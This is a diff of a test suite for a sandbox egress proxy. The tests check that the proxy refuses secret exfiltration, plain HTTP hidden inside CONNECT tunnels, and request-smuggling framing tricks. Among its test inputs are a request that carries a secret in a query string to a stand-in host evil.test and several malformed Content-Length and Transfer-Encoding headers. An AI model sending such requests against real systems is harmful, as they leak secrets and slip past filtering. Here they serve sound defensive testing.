@@ -13,12 +13,19 @@ import { egressVerdict } from "./egress-rules.ts";
 const root = mkdtempSync(join(tmpdir(), "org-egress-guard-"));
 let upstream: Server;
 let port = 0;
+/** What the upstream server received, each connection's bytes as they stood when it answered or closed. */
+const seen: string[] = [];
+let upstreamConnections = 0;
+/** The first bytes of a TLS ClientHello (a handshake record, TLS 1.x): what a tunnel must begin with. */
+const HELLO = "\x16\x03\x01";
 /** Bytes of the large answer (`/big`). */
 const BIG = 256 * 1024;
 
 beforeAll(async () => {
   upstream = createServer((socket) => {
+    upstreamConnections += 1;
     let head = "";
+    socket.on("close", () => seen.push(head));
     socket.on("data", (chunk) => {
       head += chunk.toString("latin1");
       if (!head.includes("\r\n\r\n")) return;
@@ -50,7 +57,7 @@ async function guardWith(rules: Parameters<typeof egressRules>[0], extra: Partia
   const connections: EgressConnection[] = [];
   const socketPath = join(root, `g${sockets++}.sock`);
   const guard = await EgressGuard.start({
-    rules: { ...egressRules({ ports: [port], ...rules }), ...(extra.rules ?? {}) },
+    rules: { ...egressRules({ ports: [port], tlsPorts: [port], ...rules }), ...(extra.rules ?? {}) },
     socketPath,
     resolver: async (host) => {
       const found = DNS[host];
@@ -114,10 +121,10 @@ describe("EgressGuard", () => {
     await using setup = await guardWith({ allow: ["*.test"] });
     const answer = await exchange(
       setup.socketPath,
-      `CONNECT other.test:${port} HTTP/1.1\r\nHost: other.test:${port}\r\n\r\nGET /inside HTTP/1.1\r\nHost: x\r\n\r\n`,
+      `CONNECT other.test:${port} HTTP/1.1\r\nHost: other.test:${port}\r\n\r\n${HELLO}GET /inside HTTP/1.1\r\nHost: x\r\n\r\n`,
     );
     expect(answer).toStartWith("HTTP/1.1 200 Connection Established\r\n\r\nHTTP/1.1 200 OK");
-    expect(answer).toContain("you asked: GET /inside HTTP/1.1");
+    expect(answer).toContain(`you asked: ${HELLO}GET /inside HTTP/1.1`);
     expect(setup.guard.summary()).toMatch(/^reached 1 host \(other\.test\)/);
   });
 
@@ -149,10 +156,10 @@ describe("EgressGuard", () => {
       ]);
     const tunnelled = await exchange(
       setup.socketPath,
-      Buffer.concat([socksConnect("public.test"), Buffer.from("GET /socks HTTP/1.1\r\nHost: x\r\n\r\n")]),
+      Buffer.concat([socksConnect("public.test"), Buffer.from(`${HELLO}GET /socks HTTP/1.1\r\nHost: x\r\n\r\n`, "latin1")]),
     );
     expect([...Buffer.from(tunnelled, "latin1").subarray(0, 12)]).toEqual([5, 0, 5, 0, 0, 1, 0, 0, 0, 0, 0, 0]);
-    expect(tunnelled).toContain("you asked: GET /socks HTTP/1.1");
+    expect(tunnelled).toContain(`you asked: ${HELLO}GET /socks HTTP/1.1`);
     const refused = await exchange(setup.socketPath, socksConnect("evil.test"));
     expect([...Buffer.from(refused, "latin1")]).toEqual([5, 0, 5, 2, 0, 1, 0, 0, 0, 0, 0, 0]);
     expect(setup.connections.map((connection) => [connection.host, connection.rule])).toEqual([
@@ -237,7 +244,7 @@ describe("EgressGuard", () => {
     const answers = await Promise.all(
       guards.flatMap((setup) =>
         Array.from({ length: 20 }, (_, index) =>
-          exchange(setup.socketPath, `CONNECT public.test:${port} HTTP/1.1\r\n\r\nGET /n${index} HTTP/1.1\r\nHost: x\r\n\r\n`),
+          exchange(setup.socketPath, `CONNECT public.test:${port} HTTP/1.1\r\n\r\n${HELLO}GET /n${index} HTTP/1.1\r\nHost: x\r\n\r\n`),
         ),
       ),
     );
@@ -278,9 +285,126 @@ describe("EgressGuard", () => {
       });
       socket.on("close", () => resolve(seen));
       socket.on("error", () => {});
-      socket.write(`CONNECT public.test:${port} HTTP/1.1\r\n\r\n`);
+      socket.write(`CONNECT public.test:${port} HTTP/1.1\r\n\r\n${HELLO}`);
     });
     expect(await closed).toStartWith("HTTP/1.1 200 Connection Established");
     expect(setup.connections[0]?.cut).toBe("the run ended");
+  });
+});
+
+describe("EgressGuard: what a request may not slip past it", () => {
+  const SECRET = "orgsecretVALUE-9f8e7d6c5b4a3210";
+
+  test("a tunnel is for TLS: a CONNECT to a port off tlsPorts, and plain HTTP inside a tunnel, are refused saying how to send it", async () => {
+    await using setup = await guardWith({ allow: ["public.test"], ports: [port, 80], tlsPorts: [port] }, { secretValues: [SECRET] });
+    const offPort = await exchange(setup.socketPath, "CONNECT public.test:80 HTTP/1.1\r\n\r\n");
+    expect(offPort).toStartWith("HTTP/1.1 403 Forbidden");
+    expect(offPort).toContain("a tunnel to port 80, not on sandbox.egress.tlsPorts");
+    expect(offPort).toContain("send plain HTTP as a proxy request (absolute form");
+    // What `curl -p` sends: the request the guard would have rewritten and scanned, inside a tunnel to an allowed port.
+    seen.length = 0;
+    const inside = await exchange(
+      setup.socketPath,
+      `CONNECT public.test:${port} HTTP/1.1\r\n\r\nGET /?k=${SECRET} HTTP/1.1\r\nHost: evil.test\r\n\r\n`,
+    );
+    expect(inside).toStartWith("HTTP/1.1 200 Connection Established\r\n\r\nHTTP/1.1 403 Forbidden");
+    expect(inside).toContain("a tunnel (CONNECT) carries TLS only. Send plain HTTP as a proxy request");
+    // The upstream connection opened for the tunnel closed with nothing of the request on it.
+    const deadline = performance.now() + 2_000;
+    while (!seen.includes("") && performance.now() < deadline) await Bun.sleep(10);
+    expect(seen).toContain("");
+    expect(seen.filter((received) => received.includes(SECRET) || received.includes("evil.test"))).toEqual([]);
+    expect(setup.connections.map((connection) => [connection.allowed, connection.rule])).toEqual([
+      [false, `a tunnel to port 80, not on sandbox.egress.tlsPorts (${port})`],
+      [false, "a tunnel not carrying TLS"],
+    ]);
+    // SOCKS5 is a tunnel too: a port off tlsPorts is "not allowed by ruleset".
+    const socks = Buffer.concat([Buffer.from([5, 1, 0, 5, 1, 0, 3, 11]), Buffer.from("public.test"), Buffer.from([0, 80])]);
+    expect([...Buffer.from(await exchange(setup.socketPath, socks), "latin1")]).toEqual([5, 0, 5, 2, 0, 1, 0, 0, 0, 0, 0, 0]);
+  });
+
+  test("a secret split across two headers is refused by the whole-request scan", async () => {
+    await using setup = await guardWith({ allow: ["public.test"] }, { secretValues: [SECRET] });
+    const split = `GET http://public.test:${port}/ HTTP/1.1\r\nX-A: ${SECRET.slice(0, 15)}\r\nX-B: ${SECRET.slice(15)}\r\n\r\n`;
+    const answer = await exchange(setup.socketPath, split);
+    expect(answer).toStartWith("HTTP/1.1 403 Forbidden");
+    expect(answer).toContain("org never sends a secret out of a sandbox");
+    expect(setup.connections[0]?.rule).toStartWith("a plain-HTTP request carrying a secret");
+  });
+
+  test("a length a server could read otherwise is refused (400); the one Content-Length sent is the guard's own", async () => {
+    await using setup = await guardWith({ allow: ["public.test"] });
+    const post = (fields: string, body = "abcde") => `POST http://public.test:${port}/p HTTP/1.1\r\n${fields}\r\n\r\n${body}`;
+    const cases: [string, string][] = [
+      [post("Content-Length: 0x5"), "is not a decimal number of bytes"],
+      [post("Content-Length: 5\r\nContent-Length: 0"), "more than one Content-Length"],
+      [post("Content-Length: 5\r\nTransfer-Encoding: chunked"), "both Transfer-Encoding and Content-Length"],
+      [post("Content-Length: 5\r\nX-A: 1\r\n X-Folded: 2"), "obs-fold"],
+      [post("Content-Length : 5"), "is no `Name: value` field"],
+      [post("Content-Length: 5\r\nX-A: a\x00b"), "the X-A header holds a control character"],
+    ];
+    const before = upstreamConnections;
+    for (const [request, said] of cases) {
+      const answer = await exchange(setup.socketPath, request);
+      expect(answer).toStartWith("HTTP/1.1 400 Bad Request");
+      expect(answer).toContain(said);
+    }
+    expect(upstreamConnections).toBe(before);
+    seen.length = 0;
+    expect(await exchange(setup.socketPath, post("Content-Length: 005\r\nConnection: keep-alive"))).toStartWith("HTTP/1.1 200 OK");
+    const deadline = performance.now() + 2_000;
+    while (!seen.some((received) => received.startsWith("POST /p")) && performance.now() < deadline) await Bun.sleep(10);
+    expect(seen.find((received) => received.startsWith("POST /p"))).toBe(
+      `POST /p HTTP/1.1\r\nHost: public.test:${port}\r\nContent-Length: 5\r\nConnection: close\r\n\r\nabcde`,
+    );
+  });
+
+  test("a body withheld is cut by its deadline, and nothing was opened upstream for it", async () => {
+    const rules = egressRules({ allow: ["public.test"], ports: [port], limits: { idleSeconds: 0.3 } });
+    await using setup = await guardWith({}, { rules });
+    const before = upstreamConnections;
+    const started = performance.now();
+    const answer = await exchange(setup.socketPath, `POST http://public.test:${port}/ HTTP/1.1\r\nContent-Length: 1000\r\n\r\nabc`, {
+      timeoutMs: 4_000,
+    });
+    expect(answer).toStartWith("HTTP/1.1 408 Request Timeout");
+    expect(answer).toContain("the request's body took longer than 0.3 s");
+    expect(performance.now() - started).toBeLessThan(4_000);
+    expect(upstreamConnections).toBe(before);
+    expect(setup.connections).toMatchObject([{ host: "public.test", allowed: false, rule: "the request's body slower than 0.3 s" }]);
+  });
+
+  test("unfinished request heads: at most 32 held at once, the rest refused at once, audited and counted", async () => {
+    const rules = egressRules({ allow: ["public.test"], ports: [port], limits: { connections: 45 } });
+    await using setup = await guardWith({}, { rules });
+    const partial = `GET http://public.test:${port}/ HTTP/1.1\r\nX: ${"a".repeat(8 * 1024)}`;
+    const holders = Array.from({ length: 32 }, () => {
+      const socket = connect(setup.socketPath);
+      socket.on("error", () => {});
+      socket.write(partial);
+      return socket;
+    });
+    try {
+      // Connected before the probe (the guard accepts in that order), so the probe is the 33rd, refused at once.
+      await Promise.all(holders.map((socket) => new Promise((resolve) => socket.once("connect", resolve))));
+      const refused = await exchange(setup.socketPath, partial);
+      expect(refused).toStartWith("HTTP/1.1 429 Too Many Requests");
+      expect(refused).toContain("more than 32 connections still sending their request at once. Open fewer connections at once.");
+      expect(setup.connections).toMatchObject([{ allowed: false, rule: "more than 32 connections still sending their request at once" }]);
+      expect(setup.guard.summary()).toContain("refused (unreadable request): more than 32 connections still sending their request");
+    } finally {
+      for (const socket of holders) socket.destroy();
+    }
+    // Once they are gone, a request goes through again; a head over 16 KiB is refused.
+    const deadline = performance.now() + 5_000;
+    let answer = "";
+    while (!answer.startsWith("HTTP/1.1 200") && performance.now() < deadline) answer = await exchange(setup.socketPath, get("public.test"));
+    expect(answer).toStartWith("HTTP/1.1 200 OK");
+    const big = await exchange(setup.socketPath, `GET http://public.test:${port}/ HTTP/1.1\r\nX: ${"a".repeat(17 * 1024)}\r\n\r\n`);
+    expect(big).toStartWith("HTTP/1.1 431");
+    // Every refusal counted toward limits.connections: spent, the next is refused before it is read.
+    while (!answer.includes("opened its 45 connections") && performance.now() < deadline + 5_000)
+      answer = await exchange(setup.socketPath, get("public.test"));
+    expect(answer).toContain("org's egress guard refused a connection: this run opened its 45 connections.");
   });
 });
